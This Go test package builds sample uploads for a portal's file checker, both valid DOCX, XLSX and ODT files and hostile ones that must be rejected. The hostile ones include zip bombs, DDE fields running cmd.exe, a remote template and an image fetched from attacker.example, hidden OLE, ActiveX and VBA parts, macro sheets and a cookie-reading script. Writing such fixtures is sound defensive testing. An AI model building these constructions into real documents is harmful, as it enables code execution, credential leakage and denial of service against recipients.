// Package uploadtest builds small, real documents for tests: a DOCX, XLSX,
// PPTX, ODT and ODS that open in their programs, a PDF with a correct
// cross-reference table, and the hostile files the portal must refuse.
package uploadtest

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"hash/crc32"
	"strings"

	"inspectrack/internal/minipdf"
)

// zipOf writes files (name, content pairs, in order) into a ZIP archive,
// deflated except where stored is set.
func zipOf(stored map[string]bool, files ...string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := 0; i < len(files); i += 2 {
		if stored[files[i]] {
			// Sizes in the local header, no data descriptor: how
			// OpenDocument's "mimetype" entry must be written.
			body := []byte(files[i+1])
			w, err := zw.CreateRaw(&zip.FileHeader{Name: files[i], Method: zip.Store, CRC32: crc32.ChecksumIEEE(body),
				CompressedSize64: uint64(len(body)), UncompressedSize64: uint64(len(body))})
			if err != nil {
				panic(err)
			}
			w.Write(body)
			continue
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: files[i], Method: zip.Deflate})
		if err != nil {
			panic(err)
		}
		if _, err := w.Write([]byte(files[i+1])); err != nil {
			panic(err)
		}
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="%s"/></Relationships>`

func contentTypes(part, contentType string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/` + part + `" ContentType="` + contentType + `"/></Types>`
}

// DOCX is a one-paragraph Word document saying text.
func DOCX(text string) []byte {
	return zipOf(nil,
		"[Content_Types].xml", contentTypes("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
		"_rels/.rels", fmt.Sprintf(rels, "word/document.xml"),
		"word/document.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>`+text+`</w:t></w:r></w:p></w:body></w:document>`,
	)
}

// DOCM is a Word document carrying a VBA project (macros).
func DOCM() []byte {
	return zipOf(nil,
		"[Content_Types].xml", contentTypes("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
		"_rels/.rels", fmt.Sprintf(rels, "word/document.xml"),
		"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>`,
		"word/vbaProject.bin", "\xd0\xcf\x11\xe0 not really a VBA project",
	)
}

// XLSX is a workbook with one empty sheet.
func XLSX() []byte {
	return zipOf(nil,
		"[Content_Types].xml", contentTypes("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
		"_rels/.rels", fmt.Sprintf(rels, "xl/workbook.xml"),
		"xl/workbook.xml", `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`,
	)
}

// PPTX is a presentation without slides.
func PPTX() []byte {
	return zipOf(nil,
		"[Content_Types].xml", contentTypes("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
		"_rels/.rels", fmt.Sprintf(rels, "ppt/presentation.xml"),
		"ppt/presentation.xml", `<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`,
	)
}

func odf(mimetype string) []byte {
	return zipOf(map[string]bool{"mimetype": true},
		"mimetype", mimetype,
		"META-INF/manifest.xml", `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="`+mimetype+`"/></manifest:manifest>`,
		"content.xml", `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`,
	)
}

// StreamedODT is an OpenDocument text whose "mimetype" entry was written
// with a data descriptor (no size in its header), as some writers do.
func StreamedODT() []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range [][2]string{
		{"mimetype", "application/vnd.oasis.opendocument.text"},
		{"META-INF/manifest.xml", `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`},
		{"content.xml", `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`},
	} {
		method := zip.Deflate
		if f[0] == "mimetype" {
			method = zip.Store
		}
		w, _ := zw.CreateHeader(&zip.FileHeader{Name: f[0], Method: method})
		w.Write([]byte(f[1]))
	}
	zw.Close()
	return buf.Bytes()
}

// ODT is an empty OpenDocument text.
func ODT() []byte { return odf("application/vnd.oasis.opendocument.text") }

// ODS is an empty OpenDocument spreadsheet.
func ODS() []byte { return odf("application/vnd.oasis.opendocument.spreadsheet") }

// PlainZip is a ZIP archive that is no document.
func PlainZip() []byte { return zipOf(nil, "notes.txt", "hello", "more.txt", "world") }

// PDF is a one-page PDF showing text.
func PDF(text string) []byte { return minipdf.Text(text) }

// HTML is a web page with a script: what an attacker would name plan.pdf.
func HTML() []byte {
	return []byte("<!DOCTYPE html>\n<html><head><title>plan</title></head><body><script>alert(document.cookie)</script></body></html>\n")
}

// ZipBomb is a DOCX-shaped archive whose document part is n bytes of
// zeros: a few KB that would expand to n when opened.
func ZipBomb(n int) []byte {
	return zipOf(nil,
		"[Content_Types].xml", contentTypes("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
		"_rels/.rels", fmt.Sprintf(rels, "word/document.xml"),
		"word/document.xml", strings.Repeat("\x00", n),
	)
}

// DeclaredBomb is a DOCX-shaped archive whose directory declares a
// document part of n bytes expanded while holding only a few: the sizes a
// bomb claims, without the work of building one.
func DeclaredBomb(n uint64) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range []struct{ name, body string }{
		{"[Content_Types].xml", contentTypes("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
		{"_rels/.rels", fmt.Sprintf(rels, "word/document.xml")},
	} {
		w, _ := zw.Create(f.name)
		w.Write([]byte(f.body))
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "word/document.xml", Method: zip.Deflate,
		CompressedSize64: 2, UncompressedSize64: n, CRC32: 0})
	if err != nil {
		panic(err)
	}
	w.Write([]byte{0x03, 0x00})
	zw.Close()
	return buf.Bytes()
}

// ManyEntries is a DOCX-shaped archive with n extra empty entries.
func ManyEntries(n int) []byte {
	files := []string{
		"[Content_Types].xml", contentTypes("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
		"_rels/.rels", fmt.Sprintf(rels, "word/document.xml"),
		"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`,
	}
	for i := range n {
		files = append(files, fmt.Sprintf("word/media/e%d.xml", i), "")
	}
	return zipOf(nil, files...)
}

// Content types and relationship types the Office builders use.
const (
	ctRels     = "application/vnd.openxmlformats-package.relationships+xml"
	ctDocument = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	ctWorkbook = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	ctSheet    = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
	relOffice  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	wordNS     = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
)

// Part is one part of an Office package: its name in the ZIP, its content
// type (declared by an Override; "" when a Default covers it) and body.
type Part struct{ Name, ContentType, Body string }

// Office builds an Office package of parts, declaring defaults (extension,
// content type pairs) and each part's own content type in
// [Content_Types].xml.
func Office(defaults []string, parts ...Part) []byte {
	var ct strings.Builder
	ct.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" +
		`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="` + ctRels + `"/><Default Extension="xml" ContentType="application/xml"/>`)
	for i := 0; i < len(defaults); i += 2 {
		fmt.Fprintf(&ct, `<Default Extension="%s" ContentType="%s"/>`, defaults[i], defaults[i+1])
	}
	for _, p := range parts {
		if p.ContentType != "" {
			fmt.Fprintf(&ct, `<Override PartName="/%s" ContentType="%s"/>`, p.Name, p.ContentType)
		}
	}
	ct.WriteString(`</Types>`)
	files := []string{"[Content_Types].xml", ct.String()}
	for _, p := range parts {
		files = append(files, p.Name, p.Body)
	}
	return zipOf(nil, files...)
}

// Relationships is a relationship part: each relationship a (type, target,
// mode) triple, the type relative to the officeDocument namespace unless it
// is a full URL; mode "" is internal.
func Relationships(rels ...[3]string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" +
		`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for i, r := range rels {
		typ := r[0]
		if !strings.HasPrefix(typ, "http") {
			typ = relOffice + typ
		}
		mode := ""
		if r[2] != "" {
			mode = ` TargetMode="` + r[2] + `"`
		}
		fmt.Fprintf(&b, `<Relationship Id="rId%d" Type="%s" Target="%s"%s/>`, i+1, typ, r[1], mode)
	}
	b.WriteString(`</Relationships>`)
	return b.String()
}

// wordBody is a document.xml around body (WordprocessingML).
func wordBody(body string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" +
		`<w:document xmlns:w="` + wordNS + `" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>` +
		body + `</w:body></w:document>`
}

// docxWith is a DOCX whose document.xml holds body and whose document
// relationships are docRels, with more parts added.
func docxWith(defaults []string, body string, docRels []([3]string), more ...Part) []byte {
	parts := []Part{
		{"_rels/.rels", "", Relationships([3]string{"officeDocument", "word/document.xml", ""})},
		{"word/document.xml", ctDocument, wordBody(body)},
		{"word/_rels/document.xml.rels", "", Relationships(docRels...)},
	}
	return Office(defaults, append(parts, more...)...)
}

const para = `<w:p><w:r><w:t>Our plan.</w:t></w:r></w:p>`

// RichDOCX is a Word document with what real plans have: styles,
// settings, a theme, properties, a header with a page number field, an
// image, a hyperlink (an external relationship, but only a link) and a
// chart with its embedded workbook. It must be accepted.
func RichDOCX() []byte {
	return docxWith([]string{"png", "image/png", "jpeg", "image/jpeg", "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
		para+`<w:p><w:hyperlink r:id="rId5"><w:r><w:t>College of Policing</w:t></w:r></w:hyperlink></w:p>`+
			`<w:p><w:fldSimple w:instr=" PAGE \* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`+
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> TOC \o "1-3" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
		[][3]string{
			{"styles", "styles.xml", ""},
			{"settings", "settings.xml", ""},
			{"theme", "theme/theme1.xml", ""},
			{"header", "header1.xml", ""},
			{"hyperlink", "https://www.college.police.uk/", "External"},
			{"image", "media/image1.png", ""},
			{"chart", "charts/chart1.xml", ""},
		},
		Part{"word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml", `<w:styles xmlns:w="` + wordNS + `"/>`},
		Part{"word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml", `<w:settings xmlns:w="` + wordNS + `"/>`},
		Part{"word/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml", `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office"/>`},
		Part{"word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
			`<w:hdr xmlns:w="` + wordNS + `"><w:p><w:fldSimple w:instr="PAGE"/></w:p></w:hdr>`},
		Part{"word/media/image1.png", "", "\x89PNG\r\n\x1a\n not really an image"},
		Part{"word/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
			`<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>`},
		Part{"word/charts/_rels/chart1.xml.rels", "", Relationships([3]string{"package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", ""})},
		Part{"word/embeddings/Microsoft_Excel_Worksheet.xlsx", "", string(XLSX())},
		Part{"docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml",
			`<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>`},
		Part{"docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml",
			`<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"/>`},
	)
}

// ExternalTemplateDOCX is a Word document whose settings attach a template
// from elsewhere (TargetMode="External"): opening it fetches the template,
// and its macros, from the attacker's server.
func ExternalTemplateDOCX() []byte {
	return docxWith(nil, para, [][3]string{{"settings", "settings.xml", ""}},
		Part{"word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
			`<w:settings xmlns:w="` + wordNS + `" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`},
		Part{"word/_rels/settings.xml.rels", "", Relationships([3]string{"attachedTemplate", "https://attacker.example/template.dotm", "External"})},
	)
}

// RemoteImageDOCX is a Word document whose image is fetched from a server
// when it opens (an external relationship that is not a hyperlink).
func RemoteImageDOCX() []byte {
	return docxWith(nil, para, [][3]string{{"image", `\\attacker.example\share\pixel.png`, "External"}})
}

// OLEObjectDOCX is a Word document with an embedded OLE object.
func OLEObjectDOCX() []byte {
	return docxWith([]string{"bin", "application/vnd.openxmlformats-officedocument.oleObject"},
		para+`<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId1"/></w:object></w:r></w:p>`,
		[][3]string{{"oleObject", "embeddings/oleObject1.bin", ""}},
		Part{"word/embeddings/oleObject1.bin", "", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an OLE object"},
	)
}

// HiddenOLEObjectDOCX is OLEObjectDOCX with the object under an innocent
// name, declared by its content type alone.
func HiddenOLEObjectDOCX() []byte {
	return docxWith(nil, para, nil,
		Part{"word/media/image2.png", "application/vnd.openxmlformats-officedocument.oleObject", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an OLE object"},
	)
}

// ActiveXDOCX is a Word document with an ActiveX control.
func ActiveXDOCX() []byte {
	return docxWith([]string{"bin", "application/vnd.ms-office.activeX"}, para,
		[][3]string{{"control", "activeX/activeX1.xml", ""}},
		Part{"word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
			`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>`},
		Part{"word/activeX/_rels/activeX1.xml.rels", "", Relationships([3]string{"http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin", ""})},
		Part{"word/activeX/activeX1.bin", "", "\xd0\xcf\x11\xe0 an ActiveX control"},
	)
}

// DDEFieldDOCX is a Word document whose field runs a command through DDE
// when it opens: as a simple field (simple) or as a complex one, its code
// split across runs and written with a character reference.
func DDEFieldDOCX(simple bool) []byte {
	body := para + `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`
	if !simple {
		body = para + `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">  &#68;D</w:instrText></w:r>` +
			`<w:r><w:instrText>E c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>` +
			`<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	return docxWith(nil, body, nil)
}

// RenamedVBADOCX is a Word document carrying a VBA project under a name
// that does not say so, declared by its content type.
func RenamedVBADOCX() []byte {
	return docxWith(nil, para, [][3]string{{"http://schemas.microsoft.com/office/2006/relationships/vbaProject", "notvba.bin", ""}},
		Part{"word/notvba.bin", "application/vnd.ms-office.vbaProject", "\xd0\xcf\x11\xe0 not really a VBA project"},
	)
}

// MacroSheetXLSX is a workbook with an Excel 4.0 macro sheet (XLM), or,
// with intl, an international macro sheet.
func MacroSheetXLSX(intl bool) []byte {
	ct, rel := "application/vnd.ms-excel.macrosheet+xml", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
	if intl {
		ct, rel = "application/vnd.ms-excel.intlmacrosheet+xml", "http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet"
	}
	return Office(nil,
		Part{"_rels/.rels", "", Relationships([3]string{"officeDocument", "xl/workbook.xml", ""})},
		Part{"xl/workbook.xml", ctWorkbook, `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`},
		Part{"xl/_rels/workbook.xml.rels", "", Relationships([3]string{"worksheet", "worksheets/sheet1.xml", ""}, [3]string{rel, "macrosheets/sheet1.xml", ""})},
		Part{"xl/worksheets/sheet1.xml", ctSheet, `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`},
		Part{"xl/macrosheets/sheet1.xml", ct, `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`},
	)
}

// LyingBomb is a DOCX whose document part declares declared bytes but
// inflates to real bytes of zeros: a ZIP bomb that lies about its size.
// It is built without holding the real bytes (a deflated MiB of zeros
// repeated), so a 3 GiB bomb takes about 3 MiB and a moment to make.
func LyingBomb(declared uint64, real int64) []byte {
	var mib bytes.Buffer
	fw, _ := flate.NewWriter(&mib, flate.BestCompression)
	fw.Write(make([]byte, 1<<20))
	fw.Flush() // a sync flush: the block ends on a byte, and repeats
	var stream bytes.Buffer
	for range real >> 20 {
		stream.Write(mib.Bytes())
	}
	tail, _ := flate.NewWriter(&stream, flate.BestCompression)
	tail.Write(make([]byte, real&(1<<20-1)))
	tail.Close()
	return rawDocx(declared, 0, stream.Bytes())
}

// BadChecksumDOCX is a DOCX whose document part does not match its CRC.
func BadChecksumDOCX() []byte {
	body := wordBody(para)
	var d bytes.Buffer
	fw, _ := flate.NewWriter(&d, flate.DefaultCompression)
	fw.Write([]byte(body))
	fw.Close()
	return rawDocx(uint64(len(body)), crc32.ChecksumIEEE([]byte(body))^1, d.Bytes())
}

// rawDocx is a DOCX whose word/document.xml is the deflated bytes given,
// declared as usize bytes with checksum crc.
func rawDocx(usize uint64, crc uint32, deflated []byte) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range [][2]string{
		{"[Content_Types].xml", contentTypes("word/document.xml", ctDocument)},
		{"_rels/.rels", fmt.Sprintf(rels, "word/document.xml")},
	} {
		w, _ := zw.Create(f[0])
		w.Write([]byte(f[1]))
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "word/document.xml", Method: zip.Deflate,
		CompressedSize64: uint64(len(deflated)), UncompressedSize64: usize, CRC32: crc})
	if err != nil {
		panic(err)
	}
	w.Write(deflated)
	zw.Close()
	return buf.Bytes()
}

// WrappingSizes is a DOCX whose directory declares sizes that add up past
// 2^64 and wrap around to a few bytes: the document part declares
// 2^64-1 bytes (in its ZIP64 field), another part 2.
func WrappingSizes() []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("[Content_Types].xml")
	w.Write([]byte(contentTypes("word/document.xml", ctDocument)))
	for _, f := range []struct {
		name  string
		usize uint64
	}{{"word/document.xml", 1<<64 - 1}, {"word/styles.xml", 2}} {
		w, err := zw.CreateRaw(&zip.FileHeader{Name: f.name, Method: zip.Deflate, CompressedSize64: 2, UncompressedSize64: f.usize})
		if err != nil {
			panic(err)
		}
		w.Write([]byte{0x03, 0x00})
	}
	zw.Close()
	return buf.Bytes()
}

// odtWith is an OpenDocument text whose content.xml holds body and whose
// manifest lists more entries (path, media type pairs), which are added
// with the bytes of their path.
func odtWith(body string, more ...string) []byte {
	const mt = "application/vnd.oasis.opendocument.text"
	manifest := `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="` + mt + `"/>`
	files := []string{"mimetype", mt}
	for i := 0; i < len(more); i += 2 {
		manifest += `<manifest:file-entry manifest:full-path="` + more[i] + `" manifest:media-type="` + more[i+1] + `"/>`
	}
	files = append(files, "META-INF/manifest.xml", manifest+`</manifest:manifest>`,
		"content.xml", `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:body><office:text>`+body+`</office:text></office:body></office:document-content>`)
	for i := 0; i < len(more); i += 2 {
		files = append(files, more[i], "bytes of "+more[i])
	}
	return zipOf(map[string]bool{"mimetype": true}, files...)
}

// RichODT is an OpenDocument text with a picture, a hyperlink and an
// embedded chart (an OpenDocument object of its own). It must be accepted.
func RichODT() []byte {
	return odtWith(`<text:p>Our plan, <text:a xlink:href="https://www.college.police.uk/">College of Policing</text:a>.</text:p>`+
		`<draw:frame><draw:image xlink:href="Pictures/1.png" xlink:type="simple"/></draw:frame>`+
		`<draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame>`,
		"Pictures/1.png", "image/png", "Object 1/content.xml", "text/xml")
}

// HostileODT is an OpenDocument text with active content of a kind: "dde"
// (a DDE connection), "ole" (an embedded OLE object), "link" (a picture
// fetched from a server when it opens) or "event" (a script bound to an
// event).
func HostileODT(kind string) []byte {
	switch kind {
	case "dde":
		return odtWith(`<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls><text:p/>`)
	case "ole":
		return odtWith(`<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>`, "Object 1", "application/vnd.sun.star.oleobject")
	case "link":
		return odtWith(`<draw:frame><draw:image xlink:href="https://attacker.example/pixel.png"/></draw:frame>`)
	case "event":
		return odtWith(`<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners><text:p/>`)
	}
	panic("HostileODT: no kind " + kind)
}

// HugeFieldDOCX is a valid DOCX whose document.xml holds one field code
// of n bytes (a single text node: a reader that holds whole tokens holds
// n bytes), built without holding them.
func HugeFieldDOCX(n int64) []byte {
	prefix := []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" +
		`<w:document xmlns:w="` + wordNS + `"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE `)
	suffix := []byte(`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`)
	fill := bytes.Repeat([]byte{'A'}, 1<<20)
	var stream bytes.Buffer
	segment := func(b []byte, final bool) []byte {
		var seg bytes.Buffer
		fw, _ := flate.NewWriter(&seg, flate.BestSpeed)
		fw.Write(b)
		if final {
			fw.Close()
		} else {
			fw.Flush()
		}
		return seg.Bytes()
	}
	stream.Write(segment(prefix, false))
	crc := crc32.Update(0, crc32.IEEETable, prefix)
	mib := segment(fill, false)
	for range n >> 20 {
		stream.Write(mib)
		crc = crc32.Update(crc, crc32.IEEETable, fill)
	}
	rest := append(bytes.Repeat([]byte{'A'}, int(n&(1<<20-1))), suffix...)
	stream.Write(segment(rest, true))
	crc = crc32.Update(crc, crc32.IEEETable, rest)
	return rawDocx(uint64(len(prefix))+uint64(n)+uint64(len(suffix)), crc, stream.Bytes())
}
